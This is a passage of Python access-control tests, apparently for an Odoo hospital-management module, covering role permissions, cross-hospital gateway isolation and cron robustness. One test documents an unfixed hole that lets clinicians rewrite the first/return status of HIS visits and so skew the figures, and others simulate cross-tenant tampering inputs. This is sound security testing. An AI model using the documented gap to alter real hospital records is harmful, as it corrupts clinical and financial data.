        self.assertEqual(self.visit_cardio.company_id, self.hospital, "a visit of hospital 1 moved to hospital 2")
        self.assertTrue(error, "the write was accepted")

    def test_engine_fields_refused(self):
        self.login(self.user_doctor)
        appointment = self._book()
        self.refused("ihospital.visit", "write", [self.visit_cardio.ids, {"appointment_id": appointment.id}])
        self.login(self.user_nurse)
        vals = {
            "company_id": self.hospital.id,
            "patient_id": self.patient_cardio.id,
            "department_id": self.cardiology.id,
        }
        self.refused("ihospital.visit", "create", [{**vals, "appointment_id": appointment.id}])
        self.refused("ihospital.visit", "create", [vals], {"context": {"default_appointment_id": appointment.id}})
        self.login(self.user_admin)
        self.refused("ihospital.visit", "write", [self.visit_cardio.ids, {"appointment_id": appointment.id}])
        line = (
            self.env["ihospital.visit.charge"]
            .sudo()
            .create({"visit_id": self.visit_cardio.id, "name": "x", "category": "检查费", "amount": 1})
        )
        self.assertEqual(line.charge_class, "exam")
        self.refused("ihospital.visit.charge", "write", [line.ids, {"charge_class": "drug"}])
        self.refused("ihospital.visit.charge", "write", [line.ids, {"charge_class_unmapped": True}])
        self.refused(
            "ihospital.visit.charge",
            "create",
            [{"visit_id": self.visit_cardio.id, "name": "y", "amount": 1, "charge_class": "drug"}],
        )
        self.assertFalse(self.visit_cardio.appointment_id)

    def test_fixed_clinicians_rewrite_his_visit_kind(self):
        # HOLE (low, integrity of the figures): visit_kind (初诊/复诊) is "as
        # the HIS reports it" (contract), but it is not an engine field: a
        # nurse or doctor with write access to the department's visits flips
        # an HIS visit's first/return, and the first-visit figures change.
        # (The same holds for total_charges / insurance_amount of HIS visits,
        # older fields.) FAILS BY DESIGN until visit_kind is an engine field
        # (or readonly for source 'his').
        visit = (
            self.env["ihospital.visit"]
            .sudo()
            .create(
                {
                    "company_id": self.hospital.id,
                    "patient_id": self.patient_cardio.id,
                    "department_id": self.cardiology.id,
                    "source": "his",
                    "external_ref": "V-REVIEW",
                    "visit_kind": "first",
                }
            )
        )
        self.login(self.user_nurse)
        _result, error = self._call("ihospital.visit", "write", [visit.ids, {"visit_kind": "return"}])
        visit.invalidate_recordset()
        self.assertEqual(visit.visit_kind, "first", "a nurse rewrote the HIS's first/return")
        self.assertTrue(error)

    # ------------------------------------------------------------ daily summaries
    def test_daily_summary_rights(self):
        SUMMARY = "ihospital.his.daily.summary"
        for user in (self.user_nurse, self.user_doctor, self.user_portal, self.user_gateway):
            with self.subTest(user=user.login):
                self.login(user)
                self.refused(SUMMARY, "search_read", [[]], {"fields": ["admissions"]})
        self.login(self.user_head)
        rows = self.ok(SUMMARY, "search_read", [[]], {"fields": ["department_id"]})
        self.assertEqual([row["department_id"][0] for row in rows], [self.cardiology.id])
        self.refused(SUMMARY, "read", [self.sum_surgery.ids, ["admissions"]])
        self.refused(SUMMARY, "read", [self.sum_hospital.ids, ["outpatient_visits"]])
        for user in (self.user_director, self.user_quality, self.user_admin, self.user_head):
            with self.subTest(user=user.login):
                self.login(user)
                self.refused(SUMMARY, "write", [self.sum_cardio.ids, {"admissions": 99}])
                self.refused(
                    SUMMARY, "create", [{"company_id": self.hospital.id, "date": "2026-01-11", "admissions": 9}]
                )
                self.refused(SUMMARY, "unlink", [self.sum_cardio.ids])
                self.refused(SUMMARY, "read", [self.sum_2.ids, ["admissions"]])
        self.login(self.user_director_2)
        rows = self.ok(SUMMARY, "search_read", [[]], {"fields": ["company_id"]})
        self.assertEqual({row["company_id"][0] for row in rows}, {self.hospital_2.id})
        self.assertEqual(self.sum_cardio.admissions, 3)

    # ------------------------------------------------------------ the gateway
    def _submit_rpc(self, user, code, message_type, data):
        self.login(user)
        payload = {
            "control_id": f"REV-{message_type}-{code}",
            "type": message_type,
            "protocol": "json",
            "raw": "{}",
            "data": data,
            "sent_at": False,
            "received_at": fields.Datetime.to_string(fields.Datetime.now()),
        }
        result, error = self._call("ihospital.his.endpoint", "gateway_submit", [code, [payload]])
        self.process()
        return result, error

    def test_gateway_of_hospital_2_cannot_reach_hospital_1(self):
        appointment = self._book()
        appointment.action_check_in()
        appointment.with_user(self.user_doctor).action_start_consultation()
        appointment.with_user(self.user_doctor).action_finish_consultation()
        visit = appointment.visit_id
        self.patient_2.his_patient_id = "P0002"
        data = {
            "visit_ref": "V-EVIL",
            "appointment_ref": appointment.name,
            "patient": {"his_patient_id": "P0002"},
            "department_code": "T-QK",
            "start": "2026-01-10T09:00:00+08:00",
            "total_charges": 99999,
            "charges": [],
        }
        self._submit_rpc(self.user_gateway_2, "t-his-2", "visit.record", data)
        self.assertEqual(appointment.visit_id, visit)
        self.assertEqual((visit.source, visit.total_charges == 99999), ("appointment", False))
        # its own endpoint only: hospital 1's code is refused
        result, error = self._submit_rpc(
            self.user_gateway_2, "t-his", "stats.daily", {"date": "2026-01-10", "admissions": 777}
        )
        self.assertTrue(error or all(r.get("state") != "received" for r in result or []), (result, error))
        # a department code of hospital 1 through its own endpoint: not hospital 1's summary
        self._submit_rpc(
            self.user_gateway_2,
            "t-his-2",
            "stats.daily",
            {"date": "2026-01-10", "department_code": "T-XNK", "admissions": 778},
        )
        self.sum_cardio.invalidate_recordset()
        self.assertEqual(self.sum_cardio.admissions, 3)
        self.assertFalse(
            self.env["ihospital.his.daily.summary"].sudo().search([("admissions", "in", (777, 778))]),
            "hospital 2's gateway wrote a summary of hospital 1",
        )

    def test_gateway_ancient_day_does_not_stall_the_refresh(self):
        # a hospital's HIS sends a daily summary of 0001-01-01 (accepted):
        # the refresh cron takes the marks ORDER BY company_id, date LIMIT
        # 400, so a mark whose refresh failed would be in every batch and
        # stall the background refresh of every hospital. Refreshed without
        # error.
        result = self.submit("stats.daily", {"date": "0001-01-01", "admissions": 1})
        self.assertEqual(result["state"], "processed", result)
        Day = self.env[DAY].sudo()
        try:
            with self.env.cr.savepoint():
                Day._ihospital_refresh_marked(limit=400)
        except Exception as error:  # noqa: BLE001 - any failure stalls the cron
            self.fail(f"the refresh of the marked days fails: {error!r}")

    def test_gateway_far_future_visit_does_not_stall_the_refresh(self):
        # the same with a visit record dated 9999-12-31 (accepted: its day is
        # marked; refreshing it must neither overflow nor fail the batch)
        data = dict(VISIT, visit_ref="V-FAR", start="9999-12-31T10:00:00+08:00", end=False)
        result = self.submit("visit.record", data)
        self.assertEqual(result["state"], "processed", result)
        try:
            with self.env.cr.savepoint():
                self.env[DAY].sudo()._ihospital_refresh_marked(limit=400)
        except Exception as error:  # noqa: BLE001 - any failure stalls the cron
            self.fail(f"the refresh of the marked days fails: {error!r}")

    def test_gateway_user_reads_no_figure(self):
        self.login(self.user_gateway)
        self.refused(DASH, "get_dashboard", [], PERIOD)
        self.refused(DAY, "search_read", [[]], {"fields": ["visits"]})
        self.refused(CAMERA, "search_read", [[]], {"fields": ["name"]})
        self.refused("ihospital.visit", "search_read", [[]], {"fields": ["total_charges"]})
        response = self.url_open(f"/ihospital/analysis/export.xlsx?{urlencode(PERIOD)}")
        self.assertEqual(response.status_code, 403)
